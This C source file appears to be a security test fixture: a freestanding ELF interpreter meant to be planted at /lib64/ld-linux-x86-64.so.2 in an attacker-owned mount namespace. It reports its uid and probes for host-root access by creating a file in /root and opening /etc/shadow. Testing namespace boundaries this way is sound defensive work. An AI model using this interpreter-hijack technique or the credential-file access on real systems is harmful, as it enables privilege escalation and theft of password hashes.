/* What an attacker puts at /lib64/ld-linux-x86-64.so.2 in a mount namespace it owns: the kernel
 * loads a dynamically linked program's ELF interpreter by path inside the caller's mount
 * namespace, so whoever enters that namespace and runs /usr/bin/bash there runs this instead —
 * whatever the command's own file is. Freestanding (no libc: it is loaded in ld.so's place, with
 * the main program's auxiliary vector). It reports who it runs as and tries what only host root
 * may: create a file in /root and open /etc/shadow. With NSX_PLANTED_IDLE in its environment
 * (the attacker's own sleeper) it just waits. x86-64 Linux only. */
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static unsigned long len(const char* s)
{
    unsigned long n = 0;
    while (s[n])
        ++n;
    return n;
}

static void say(const char* s)
{
    sys3(SYS_write, 1, (long)s, (long)len(s));
}

static void sayNumber(unsigned long v)
{
    char buf[24];
    int i = 23;
    buf[i] = 0;
    do {
        buf[--i] = (char)('0' + v % 10);
        v /= 10;
    } while (v && i > 0);
    say(buf + i);
}

__attribute__((used)) void planted_main(long* sp)
{
    const long argc = sp[0];
    char** envp = (char**)(sp + argc + 2);
    for (char** e = envp; *e; ++e) {
        const char* want = "NSX_PLANTED_IDLE=";
        const char* p = *e;
        int i = 0;
        while (want[i] && p[i] == want[i])
            ++i;
        if (!want[i])
            for (;;)
                sys3(SYS_pause, 0, 0, 0);
    }
    say("planted interpreter ran: uid ");
    sayNumber((unsigned long)sys3(SYS_geteuid, 0, 0, 0));
    say("\n");
    if (sys3(SYS_open, (long)"/root/nsx-enter-boundary-planted", 0101 /* O_WRONLY|O_CREAT */,
             0644) >= 0)
        say("wrote-root\n");
    if (sys3(SYS_open, (long)"/etc/shadow", 0, 0) >= 0)
        say("shadow-readable\n");
    sys3(SYS_exit_group, 0, 0, 0);
}

__asm__(".globl _start\n"
        "_start:\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call planted_main\n"
        "  hlt\n");
